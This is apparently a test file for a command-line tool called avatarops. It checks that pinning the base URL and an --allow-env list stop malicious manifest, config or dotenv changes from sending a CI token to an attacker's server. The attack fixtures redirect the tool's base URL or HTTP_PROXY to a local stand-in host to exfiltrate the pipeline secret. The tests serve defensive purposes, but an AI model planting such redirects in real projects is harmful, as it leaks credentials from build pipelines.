/** Checks that the user decides which service a command uses and which variables the files may read. */
import { createServer } from "node:http";
import { describe, expect, onTestFinished, test } from "vitest";
import { createEmptyDataset } from "../../src/emulator/index.js";
import { listen } from "../listening.js";
import { expectSuccess, matchText, newFolder, runIn, startProject } from "./hosting.js";

const contexts = "contexts:\n  desk: { name: Desk, prompt: Be kind. }\n";

/** Starts an attacker's server and counts its connections. */
async function startAttackerServer(): Promise<{ url: string; connections(): number }> {
  let connections = 0;
  const server = createServer((_request, response) => response.end("{}"));
  server.on("connection", () => {
    connections += 1;
  });
  const { port, close } = await listen(server);
  onTestFinished(close);
  return { url: `http://127.0.0.1:${port}`, connections: () => connections };
}

/** Returns a manifest that sends a pipeline variable to the given URL. */
const formatStealingManifest = (url: string) =>
  `service: { base_url: ${url}, api_key: !env CI_TOKEN }\nstate: new.json\n${contexts}`;

/** Malicious changes to the files, which set the base URL, the key or the state. */
const attacks = {
  "in the manifest": (url: string) => ({ "avatarops.yaml": formatStealingManifest(`"${url}"`) }),
  "through a variable": () => ({ "avatarops.yaml": formatStealingManifest("!env STRANGER") }),
  "through a file": (url: string) => ({
    "avatarops.yaml": formatStealingManifest("!file url.txt"),
    "url.txt": url,
  }),
  "through a command": (url: string) => ({
    "avatarops.yaml": formatStealingManifest(`!exec [echo, "${url}"]`),
  }),
  "in an environment": (url: string) => ({
    "avatarops.yaml": `${contexts}environments:\n  ci: { service: { base_url: "${url}", api_key: !env CI_TOKEN }, state: new.json }\n`,
  }),
  "in an included file": (url: string) => ({
    "avatarops.yaml": `include: [more.yaml]\n${contexts}`,
    "more.yaml": `service: { base_url: "${url}", api_key: !env CI_TOKEN }\n`,
  }),
  "in TypeScript": (url: string) => ({
    "avatarops.config.ts": `import { Context, env, Project } from "avatarops";
const project = new Project({ service: { baseUrl: "${url}", apiKey: env("CI_TOKEN") }, state: "new.json" });
new Context(project, "desk", { name: "Desk", prompt: "Be kind." });
export default project;\n`,
  }),
  "in a dotenv file": (url: string) => ({
    "avatarops.yaml": contexts,
    "ci.env": `AVATAROPS_BASE_URL=${url}\nAVATAROPS_PIN=0\nHTTP_PROXY=${url}\nhttp_proxy=${url}\n`,
  }),
} as const;

const commands = [
  ["plan"],
  ["apply", "--auto-approve"],
  ["pull"],
  ["import", "context.desk", "2c5faf09-e6fd-46fd-84e3-489b10838fbf"],
  ["sessions", "list"],
  ["token", "kiosk"],
];

async function startAttack(attack: keyof typeof attacks, environment: Record<string, string>) {
  const stranger = await startAttackerServer();
  const project = await startProject({
    world: createEmptyDataset(),
    files: attacks[attack](stranger.url),
    environment: { CI_TOKEN: "token-of-the-pipeline", STRANGER: stranger.url, ...environment },
  });
  const more = [
    ...(attack === "in an environment" ? ["--env", "ci"] : []),
    ...(attack === "in a dotenv file" ? ["--dotenv", "ci.env"] : []),
  ];
  return { stranger, project, more };
}

describe("malicious change that sends a pipeline variable to another base URL", () => {
  test.each(Object.keys(attacks) as (keyof typeof attacks)[])(
    "is blocked by a pinned base URL: %s",
    async (attack) => {
      const { stranger, project, more } = await startAttack(attack, { AVATAROPS_PIN: "1" });
      for (const command of commands) {
        const ran = await project.avatarops(...command, ...more);
        expect(ran.stdout + ran.stderr).not.toContain("token-of-the-pipeline");
      }
      expect(stranger.connections()).toBe(0);
    },
  );

  test("is blocked by a base URL pinned with a flag", async () => {
    const { stranger, project } = await startAttack("in the manifest", {});
    const ran = await project.avatarops("plan", "--pinned", "--base-url", project.emulator.url);
    expect(ran).toMatchObject({ exit: 0, stdout: matchText(`Plan for ${project.emulator.url}`) });
    expect(stranger.connections()).toBe(0);
  });

  test.each(Object.keys(attacks).filter((one) => !/included|dotenv/.test(one)) as (keyof typeof attacks)[])(
    "is rejected before any request if --allow-env omits the variable (%s)",
    async (attack) => {
      const { stranger, project, more } = await startAttack(attack, {});
      for (const command of [["plan"], ["token", "kiosk"], ["validate"]]) {
        const ran = await project.avatarops(...command, ...more, "--allow-env", "LLM_API_KEY");
        expect(ran).toMatchObject({ exit: 1 });
        expect(ran.stdout + ran.stderr).toMatch(
          /service\.(api_key|apiKey) is not allowed to read the\s+environment\s+variable\s+CI_TOKEN/,
        );
        expect(ran.stdout + ran.stderr).toMatch(/ avatarops\.(yaml|config\.ts):\d+:\d+/);
      }
      expect(stranger.connections()).toBe(0);
      expect(project.emulator.requests).toEqual([]);
    },
  );

  test("reaches the attacker's server if the base URL is not pinned", async () => {
    const { stranger, project } = await startAttack("in the manifest", {});
    await project.avatarops("plan");
    expect(stranger.connections()).toBeGreaterThan(0);
  });
});

describe("AVATAROPS_PIN", () => {
  test("ignores api_key in the manifest and reports a missing AVATAROPS_API_KEY", async () => {
    const project = await startProject({
      files: { "avatarops.yaml": `service: { api_key: !env CI_TOKEN }\n${contexts}` },
    });
    const environment = { AVATAROPS_PIN: "1", AVATAROPS_API_KEY: undefined, CI_TOKEN: "test-key" };
    expect(await project.avataropsWith({ environment }, "apply", "-y")).toMatchObject({
      exit: 1,
      stderr: matchText("The environment variable AVATAROPS_API_KEY is not set."),
    });
    expect(await project.avataropsWith({ environment }, "plan")).toMatchObject({
      exit: 0,
      stdout: matchText("not compared with the account"),
    });
    expect(project.emulator.requests).toEqual([]);
  });

  test.each(["0", "false", ""])('has no effect with the value "%s"', async (pin) => {
    const project = await startProject({
      files: { "avatarops.yaml": `service: { api_key: !env OTHER }\n${contexts}` },
      environment: { AVATAROPS_PIN: pin, AVATAROPS_API_KEY: "wrong", OTHER: "test-key" },
    });
    expect(await project.avatarops("plan")).toMatchObject({ exit: 0 });
  });
});

describe("--allow-env", () => {
  const files = {
    "avatarops.yaml": `service: { base_url: !env AVATAROPS_BASE_URL, api_key: !env AVATAROPS_API_KEY }
fingerprint_key: !env VAULT_KEY
secrets:
  llm: { secret_name: llm, secret_type: LLMPROVIDER_API_KEY, secret_value: !env LLM_API_KEY }
`,
  };

  test.each([
    ["by flags", ["--allow-env", "VAULT_KEY", "--allow-env", "LLM_API_KEY"], {}],
    ["by one flag", ["--allow-env", "VAULT_KEY,LLM_API_KEY"], {}],
    ["by a variable", [], { AVATAROPS_ALLOW_ENV: "VAULT_KEY LLM_API_KEY" }],
  ])(
    "allows variables listed %s, in addition to the base URL and the key",
    async (_how, flags, environment) => {
      const project = await startProject({ world: createEmptyDataset(), files });
      const values = { VAULT_KEY: "a-long-vault-key", LLM_API_KEY: "sk-1", ...environment };
      await expectSuccess(
        project.avataropsWith({ environment: values }, "apply", "--auto-approve", ...flags),
      );
      expect([...project.emulator.world.secrets]).toHaveLength(1);
    },
  );

  test("allows no variables if the list is empty, as in CI systems with unset variables", async () => {
    const project = await startProject({ files, environment: { AVATAROPS_ALLOW_ENV: "" } });
    const { exit, stdout } = await project.avatarops("validate", "--format", "json");
    expect(exit).toBe(1);
    expect(JSON.parse(stdout).diagnostics).toMatchObject([
      { code: "env-not-allowed", location: { line: 2, column: 23 } },
      { code: "env-not-allowed", location: { line: 4 } },
    ]);
  });

  test("does not let other settings read AVATAROPS_API_KEY", async () => {
    const project = await startProject({
      files: { "avatarops.yaml": "fingerprint_key: !env AVATAROPS_API_KEY\n" },
    });
    const ran = await project.avatarops("validate", "--allow-env", "OTHER");
    expect(ran).toMatchObject({
      exit: 1,
      stdout: matchText("is not allowed to read the environment variable"),
    });
  });
});

test.each([["plan"], ["sessions", "list"], ["pull", "--dry-run"]])(
  "overrides the manifest's base URL with --base-url: %s %s",
  async (...argv) => {
    const project = await startProject({
      world: createEmptyDataset(),
      files: { "avatarops.yaml": `service: { base_url: "http://127.0.0.1:1" }\n${contexts}` },
    });
    await project.expectDone(...argv.filter(Boolean), "--base-url", project.emulator.url);
  },
);

describe("base URL without TLS", () => {
  const unencrypted = "would send the API key unencrypted";

  test.each([
    ["the environment", [], { AVATAROPS_BASE_URL: "http://service.invalid" }],
    ["--base-url", ["--base-url", "http://service.invalid"], {}],
    ["--base-url of export", ["--base-url", "http://service.invalid"], {}],
  ])("causes a warning if it comes from %s", async (where, flags, environment) => {
    const project = await startProject({ files: { "avatarops.yaml": contexts } });
    const line = where.endsWith("export") ? ["export", "account"] : ["plan"];
    const ran = await project.avataropsWith({ environment }, ...line, ...flags);
    expect(ran.stderr).toEqual(matchText(unencrypted));
  });

  test("is reported once if it comes from the manifest", async () => {
    const project = await startProject({
      files: { "avatarops.yaml": `service: { base_url: "http://service.invalid" }\n${contexts}` },
    });
    const { stderr } = await project.avatarops("plan");
    expect(stderr.split("unencrypted")).toHaveLength(2);
  });

  test.each(["http://127.0.0.1:1", "http://localhost:1", "http://[::1]:1", "https://service.invalid"])(
    "causes no warning for %s",
    async (url) => {
      const project = await startProject({ files: { "avatarops.yaml": contexts } });
      expect((await project.avatarops("plan", "--base-url", url)).stderr).not.toContain("unencrypted");
    },
  );
});

describe("--dotenv", () => {
  test("sets missing variables, with later files overriding earlier ones", async () => {
    const project = await startProject({
      world: createEmptyDataset(),
      files: {
        "avatarops.yaml": contexts,
        "first.env": '# ours\nAVATAROPS_API_KEY="wrong"\nAVATAROPS_BASE_URL=http://127.0.0.1:1\n',
        "second.env": "\uFEFFexport AVATAROPS_API_KEY='test-key'\r\n",
      },
    });
    const { url } = project.emulator;
    const argv = ["plan", "--dotenv", "first.env", "--dotenv", "second.env"];
    const ran = await runIn(project.folder, argv, { environment: { AVATAROPS_BASE_URL: url } });
    expect(ran, ran.stderr).toMatchObject({ exit: 0, stdout: matchText(`Plan for ${url}`) });
  });

  test("turns color on and off", async () => {
    const project = await startProject({
      world: createEmptyDataset(),
      files: { "avatarops.yaml": contexts, "on.env": "FORCE_COLOR=1\n", "off.env": "NO_COLOR=1\n" },
    });
    const plan = async (...files: string[]) =>
      (await project.expectDone("plan", ...files.flatMap((file) => ["--dotenv", file]))).stdout;
    expect(await plan("on.env")).toContain("\u001b[");
    expect(await plan("on.env", "off.env")).not.toContain("\u001b[");
  });

  test("reads no dotenv file by default", async () => {
    const folder = await newFolder();
    const project = await startProject({
      files: { "avatarops.yaml": contexts, ".env": "AVATAROPS_API_KEY=test-key\n" },
    });
    const environment = { AVATAROPS_BASE_URL: project.emulator.url };
    expect(await runIn(folder, ["diff"], { environment })).toMatchObject({ exit: 1 });
    expect(await runIn(project.folder, ["diff"], { environment })).toMatchObject({ exit: 1 });
  });

  test("reports a missing file", async () => {
    const project = await startProject({ files: { "avatarops.yaml": contexts } });
    await project.expectRefused(
      ["plan", "--dotenv", "none.env"],
      "error[dotenv] The --dotenv file none.env does not exist",
    );
  });
});

test("reports that the environment variable `constructor` is missing", async () => {
  const project = await startProject({
    files: { "avatarops.yaml": `service: { api_key: !env constructor }\n${contexts}` },
  });
  await project.expectRefused(["diff"], "error[not-set] The environment variable constructor is not set.");
});

test.for([
  ["sk-ab#cd-12", "sk-ab#cd-12"],
  ["sk-ab#cd-12   # the key of June", "sk-ab#cd-12"],
  ["sk-ab#cd-12 # the key\u2028of June", "sk-ab#cd-12"],
  ["#begins", "#begins"],
  ["it's#it", "it's#it"],
  ['"sk-ab # cd"', "sk-ab # cd"],
  ["'sk#1'", "sk#1"],
  ['"two\nK=lines#2"', "two\nK=lines#2"],
])("parses # in the --dotenv value %s", async ([written = "", value]) => {
  const secret = "{ secret_name: S, secret_type: LLMPROVIDER_API_KEY, secret_value: !env K }";
  const project = await startProject({
    files: {
      "avatarops.yaml": `secrets:\n  s: ${secret}\n`,
      "ci.env": `# K="no\nexport K=${written}\r\nL=x#y\n`,
    },
  });
  await project.expectDone("apply", "-y", "--dotenv", "ci.env");
  const [made] = project.emulator.world.secrets;
  expect(project.emulator.secretValue(made?.id ?? "")).toBe(value);
});

describe("--dotenv value whose quote closes early", () => {
  test.each([
    ['"{\\"type\\": \\"service_account\\"}"', "text after the closing quote"],
    ['"service_account"x', "text after the closing quote"],
    ["'service_account'\\''x'", "text after the closing quote"],
    ["`service_account` `x`", "text after the closing quote"],
    ['"service_account', "an unclosed quote"],
    ['"service_account\nL="x"', "an unclosed quote"],
  ])("is rejected with its line and variable, and not shown (%s)", async (written, what) => {
    const secret = "{ secret_name: S, secret_type: LLMPROVIDER_API_KEY, secret_value: !env K }";
    const project = await startProject({
      world: createEmptyDataset(),
      files: { "avatarops.yaml": `secrets:\n  s: ${secret}\n`, "ci.env": `# ours\nexport K = ${written}\n` },
    });
    const ran = await project.avatarops("apply", "-y", "--dotenv", "ci.env");
    expect(ran).toMatchObject({
      exit: 1,
      stderr: matchText(`error[dotenv] The --dotenv file ci.env has ${what} on line 2 (K).`),
    });
    expect(ran.stdout + ran.stderr).not.toContain("service_account");
    expect([...project.emulator.world.secrets]).toEqual([]);
  });

  test("is accepted if only a comment follows", async () => {
    const project = await startProject({
      files: { "avatarops.yaml": contexts, "ci.env": 'A="a" # "why"\nB=\'b\'#c\nC=`c` \n' },
    });
    await project.expectDone("plan", "--dotenv", "ci.env");
  });
});
